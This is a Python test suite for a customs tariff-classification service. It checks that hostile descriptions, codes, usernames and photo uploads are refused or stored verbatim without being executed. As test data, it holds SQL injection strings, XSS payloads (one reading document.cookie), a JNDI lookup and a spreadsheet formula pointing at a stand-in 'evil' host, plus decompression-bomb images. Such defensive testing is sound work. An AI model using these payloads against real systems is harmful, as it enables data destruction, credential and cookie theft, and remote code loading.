"""Hostile text, codes and uploads through hs_model.predict, services.classify, services.decisions and the database.

Each refusal has a clear message and stores nothing; accepted text is stored and read back verbatim (never run).
"""

from __future__ import annotations

import csv
import io
import json
import re

import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import inspect, select

from db.models import Decision, LineItem
from hs_core.limits import LIMITS
from hs_core.nomenclature import HsCode, InvalidCode
from hs_model.errors import InputError
from hs_model.predict import clean_text, validate_query
from services import decisions
from services.auth import authenticate
from services.classify import UploadedPhoto, classify_and_record, is_subheading, submit_decision
from services.errors import InvalidInput, PermissionDenied
from services.export import DecisionFilter, export_decisions
from tests.reliability.conftest import files_under, new_item, row_counts

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

HOSTILE = {
    "sql_quote": "Robert'); DROP TABLE decisions;--",
    "sql_union": "x' UNION SELECT password_hash FROM users --",
    "sql_comment": "cotton /* */ ; DELETE FROM line_items WHERE 1=1; --",
    "script": "<script>alert('xss')</script>",
    "img_onerror": '<img src=x onerror="alert(document.cookie)">',
    "markdown_js": "[click me](javascript:alert(1)) **bold** :red[alarm] $\\LaTeX$",
    "template": "{{7*7}} ${jndi:ldap://evil/x} %s %n {0}",
    "formula": '=HYPERLINK("http://evil","click")',
    "mixed_scripts": "Футболка 棉 T-shirt قميص קוטון Ελληνικά हिन्दी",
    "right_to_left": "\u202ecotton shirt\u202c \u05d7\u05d5\u05dc\u05e6\u05d4 \u0642\u0645\u064a\u0635",
    "emoji": "👕🧵 T-shirt 👨‍👩‍👧 🇫🇷 ✔️",
    "zero_width": "cot\u200bton\u200d t\ufeffshirt e\u0301",
    "newlines": "line one\nline two\r\n\tindented",
}


def app_export(factory, actor, fmt: str) -> bytes:
    with factory.begin() as session:
        return export_decisions(session, actor, DecisionFilter(), fmt)


# ------------------------------------------------------------------------------------------- description text


@pytest.mark.parametrize("text", [None, "", "   ", "\n\t \r\n", "\x00\x01\x02"])
def test_empty_descriptions_without_photos_are_refused(text):
    with pytest.raises(InputError) as info:
        validate_query(text, [])
    assert str(info.value) == "Give a description, at least one photo, or both."


def test_a_one_megabyte_description_is_refused_with_the_limit():
    with pytest.raises(InputError) as info:
        clean_text("x" * 1_000_000)
    assert str(info.value).startswith("The description has 1,000,000 characters; the limit is 20,000.")


def test_binary_bytes_decoded_as_text_lose_their_control_characters():
    text = bytes(range(256)).decode("latin-1")
    cleaned = clean_text(text)
    assert not CONTROL.search(cleaned)
    assert "ÿ" in cleaned and "A" in cleaned  # printable characters stay


@pytest.mark.parametrize("key", sorted(HOSTILE))
def test_hostile_text_survives_cleaning_unchanged(key):
    assert clean_text(HOSTILE[key]) == HOSTILE[key].strip()


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_clean_text_only_removes_control_characters(text):
    cleaned = clean_text(text)
    assert not CONTROL.search(cleaned)
    assert cleaned == CONTROL.sub(" ", text).strip()


# ------------------------------------------------------------------------------------------- stored verbatim


def test_hostile_text_is_stored_and_read_back_verbatim(factory, actors, fake_classifier, tmp_path):
    broker, reviewer, admin = actors["broker"], actors["reviewer"], actors["admin"]
    recorded = {}
    for key, text in HOSTILE.items():
        with factory.begin() as session:
            item = classify_and_record(
                session, fake_classifier, broker, text=text, photos=[], photo_root=tmp_path, line_ref=key
            )
            submit_decision(session, broker, line_item_id=item.line_item_id, code="6109.10", justification=text)
            decisions.reject(session, reviewer, item.line_item_id, reason=text)
        recorded[key] = item.line_item_id

    with factory() as session:
        table_names = set(inspect(session.get_bind()).get_table_names())
        for key, item_id in recorded.items():
            want = HOSTILE[key].strip()
            assert session.get(LineItem, item_id).description == want
            state = decisions.item_state(session, broker, item_id)
            assert [d.comment for d in state.history] == [want, want]
    assert {"users", "decisions", "line_items", "audit_events"} <= table_names  # nothing was dropped

    lines = [json.loads(line) for line in app_export(factory, admin, "jsonl").decode().splitlines()]
    by_item = {row["line_item_id"]: row for row in lines if row["kind"] == "rejected"}
    for key, item_id in recorded.items():
        assert by_item[item_id]["comment"] == HOSTILE[key].strip()
        assert by_item[item_id]["description"] == HOSTILE[key].strip()

    table = pq.read_table(io.BytesIO(app_export(factory, admin, "parquet"))).to_pylist()
    assert {row["description"] for row in table} == {t.strip() for t in HOSTILE.values()}

    cells = [cell for row in csv.reader(io.StringIO(app_export(factory, admin, "csv").decode())) for cell in row]
    assert "<script>alert('xss')</script>" in cells  # text, as typed
    assert "'" + HOSTILE["formula"] in cells  # neutralised: a spreadsheet will not run it
    # The only formula cells are the app's own code cells, ="6109.10": a constant built from validated digits
    code_cells = re.compile(r'="\d{4}\.\d{2}"|="\d{2}(\d{2})?"')
    assert not [c for c in cells if c.startswith(("=", "+", "@")) and not code_cells.fullmatch(c)]


def test_control_characters_in_comments_are_cleaned_not_a_database_error(shared_db):
    factory, actors = shared_db
    """PostgreSQL refuses NUL in text (DataError: a traceback on the page); the service must clean or refuse it."""
    item_id = new_item(factory, actors["broker"])
    with factory.begin() as session:
        decision = decisions.submit(session, actors["broker"], item_id, "6109.10", "left\x00right\x07 end\tok\n")
    with factory() as session:
        assert session.get(Decision, decision.id).comment == "left right  end\tok"


@pytest.mark.parametrize("username", ["bea\x00", "x" * 200, "\x00", "a\x1b[31mred"])
def test_odd_usernames_at_sign_in_are_a_plain_refusal(shared_db, username):
    factory, actors = shared_db
    with pytest.raises(PermissionDenied) as info, factory.begin() as session:
        authenticate(session, username, "whatever password")
    assert str(info.value) == "Invalid username or password."


def test_export_filter_with_nul_is_a_clear_error():
    with pytest.raises(ValueError, match="username filter"):
        DecisionFilter(username="ada\x00")


@pytest.mark.parametrize(("field", "what"), [("shipment_ref", "shipment reference"), ("line_ref", "line reference")])
def test_control_characters_in_references_are_refused_before_anything_is_stored(
    shared_db, fake_classifier, tmp_path, field, what
):
    """A NUL would be stored as is on SQLite and be a DataError (a traceback, not a message) on PostgreSQL."""
    factory, actors = shared_db
    before = row_counts(factory)
    with pytest.raises(InvalidInput) as info, factory.begin() as session:
        classify_and_record(
            session, fake_classifier, actors["broker"], text="cotton shirt", photos=[], photo_root=tmp_path,
            **{field: "REF\x00-1"},
        )  # fmt: skip
    assert str(info.value) == f"The {what} contains control characters (tabs, line breaks or binary); type it again."
    assert row_counts(factory) == before and fake_classifier.calls == 0


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=200))
def test_any_justification_round_trips_cleaned(shared_db, text):
    factory, actors = shared_db
    item_id = new_item(factory, actors["broker"])
    with factory.begin() as session:
        decision = decisions.submit(session, actors["broker"], item_id, "610910", text)
    with factory() as session:
        assert session.get(Decision, decision.id).comment == CONTROL.sub(" ", text).strip()


def test_a_megabyte_comment_is_refused_and_nothing_is_stored(shared_db):
    factory, actors = shared_db
    item_id = new_item(factory, actors["broker"])
    before = row_counts(factory)
    with pytest.raises(InvalidInput) as info, factory.begin() as session:
        decisions.submit(session, actors["broker"], item_id, "6109.10", "y" * 1_000_000)
    assert str(info.value) == "Comments are limited to 4000 characters."
    assert row_counts(factory) == before


# ------------------------------------------------------------------------------------------- codes


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("abc", "'abc' is not an HS code: give 2, 4 or 6 digits, e.g. 6109.10"),
        ("6109'; DROP TABLE decisions;--", "is not an HS code"),
        ("<script>", "is not an HS code"),
        ("61091", "is not an HS code"),
        ("6109.99", "'6109.99' does not exist in HS 2022; 6109 has 6109.10, 6109.90"),
        ("0000", "does not exist in HS 2022 (there is no chapter 00)"),
        ("TOTAL", "is a UN Comtrade reporting total, not an HS code"),
        ("999999", "is a UN Comtrade code for 'commodities not specified', not an HS code"),
        ("6109.10.0012", "is a 10-digit national tariff code, not an HS code: use its first 6 digits (6109.10)"),
        ("", "is not an HS code"),
    ],
)
def test_hs_code_parse_refuses_with_a_message(raw, message):
    with pytest.raises(InvalidCode) as info:
        HsCode.parse(raw)
    assert message in str(info.value)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=20))
def test_hs_code_parse_never_fails_otherwise(raw):
    try:
        code = HsCode.parse(raw)
    except InvalidCode:
        return
    assert code.digits.isascii() and len(code.digits) in (2, 4, 6)


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("6109.99", "'6109.99' does not exist in HS 2022; 6109 has 6109.10, 6109.90"),
        ("9999.99", "'9999.99' is a UN Comtrade code for 'commodities not specified', not an HS code"),
        ("6109", "'6109' is a heading, not a 6-digit HS subheading: pick one of 6109.10, 6109.90"),
        ("61O910", "'61O910' is not an HS code: give 2, 4 or 6 digits, e.g. 6109.10"),
        ("6109.10; DROP TABLE decisions", "is not an HS code"),
        ("\uff16\uff11\uff10\uff19\uff11\uff10", "is not an HS code"),  # full-width digits
        ("\u0666\u0661\u0660\u0669\u0661\u0660", "is not an HS code"),  # Arabic-Indic digits
    ],
)
def test_submit_refuses_bad_codes_and_stores_nothing(shared_db, typed, message):
    factory, actors = shared_db
    item_id = new_item(factory, actors["broker"])
    before = row_counts(factory)
    with pytest.raises(InvalidInput) as info, factory.begin() as session:
        submit_decision(session, actors["broker"], line_item_id=item_id, code=typed)
    assert message in str(info.value)
    assert row_counts(factory) == before


def test_unicode_digits_are_refused_even_without_a_nomenclature_check(shared_db):
    factory, actors = shared_db
    """The database only checks length(code) = 6: six full-width digits would pass it."""
    item_id = new_item(factory, actors["broker"])
    with pytest.raises(InvalidInput), factory.begin() as session:
        decisions.submit(session, actors["broker"], item_id, "\uff16\uff11\uff10\uff19\uff11\uff10")


def test_correct_refuses_a_code_outside_hs_2022(shared_db):
    factory, actors = shared_db
    item_id = new_item(factory, actors["broker"], submit_as=actors["broker"])
    before = row_counts(factory)
    with pytest.raises(InvalidInput) as info, factory.begin() as session:
        decisions.correct(session, actors["reviewer"], item_id, "6109.99", "wrong", valid_code=is_subheading)
    assert str(info.value) == "'6109.99' does not exist in HS 2022; 6109 has 6109.10, 6109.90"
    assert row_counts(factory) == before


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=20))
def test_normalise_code_gives_six_ascii_digits_or_a_clear_refusal(raw):
    try:
        digits = decisions.normalise_code(raw)
    except InvalidInput as exc:
        message = str(exc)
        assert message and "\n" not in message.strip()  # one clear line, whatever was typed
        assert any(s in message for s in ("not an HS code", "does not exist in HS 2022", "not a 6-digit HS subheading"))
        return
    assert len(digits) == 6 and digits.isascii() and digits.isdigit()


# ------------------------------------------------------------------------------------------- uploads


def hostile_uploads(good_jpeg: bytes) -> dict[str, tuple[list[UploadedPhoto], str]]:
    from tests.reliability.test_hostile_images import png, solid_png

    return {
        "over_size_limit": (
            [UploadedPhoto("scan.jpg", b"\xff\xd8\xff" + bytes(LIMITS.max_image_bytes))],
            "MB limit for one photo",
        ),
        "svg_renamed": ([UploadedPhoto("label.jpg", b"<svg><script>alert(1)</script></svg>")], "not an image file"),
        "zero_bytes": ([UploadedPhoto("empty.jpg", b"")], "empty.jpg: the file is empty (0 bytes)."),
        "truncated": ([UploadedPhoto("cut.jpg", good_jpeg[: len(good_jpeg) // 2])], "corrupt or truncated"),
        "bomb_header": ([UploadedPhoto("huge.png", png(20_000, 20_000, b"x"))], "decompression bomb guard"),
        "bomb_real": ([UploadedPhoto("solid.png", solid_png(20_000, 20_000))], "decompression bomb guard"),
        "good_then_bad": (
            [UploadedPhoto("ok.jpg", good_jpeg), UploadedPhoto("bad.jpg", b"GIF89a broken")],
            "bad.jpg: ",
        ),
        "too_many": ([UploadedPhoto(f"p{i}.jpg", good_jpeg) for i in range(LIMITS.max_images + 1)], "at most 8"),
    }


@pytest.mark.parametrize(
    "case",
    [
        "over_size_limit",
        "svg_renamed",
        "zero_bytes",
        "truncated",
        "bomb_header",
        "bomb_real",
        "good_then_bad",
        "too_many",
    ],
)
def test_hostile_uploads_are_refused_before_anything_is_stored(shared_db, fake_classifier, tmp_path, good_jpeg, case):
    factory, actors = shared_db
    photos, message = hostile_uploads(good_jpeg)[case]
    store = tmp_path / "photos"
    before = row_counts(factory)
    with pytest.raises(InvalidInput) as info, factory.begin() as session:
        classify_and_record(
            session, fake_classifier, actors["broker"], text="cotton shirt", photos=photos, photo_root=store,
            shipment_ref="S-1",
        )  # fmt: skip
    assert message in str(info.value)
    assert row_counts(factory) == before
    assert files_under(store) == []
    assert fake_classifier.calls == 0


def test_a_good_photo_is_stored_once_by_content(shared_db, fake_classifier, tmp_path, good_jpeg):
    factory, actors = shared_db
    store = tmp_path / "photos"
    with factory.begin() as session:
        recorded = classify_and_record(
            session, fake_classifier, actors["broker"], text="", photos=[UploadedPhoto("a.jpg", good_jpeg)],
            photo_root=store,
        )  # fmt: skip
    with factory() as session:
        item = session.scalars(select(LineItem).where(LineItem.id == recorded.line_item_id)).one()
        assert [p.path for p in item.photos] == [f.relative_to(store).as_posix() for f in files_under(store)]
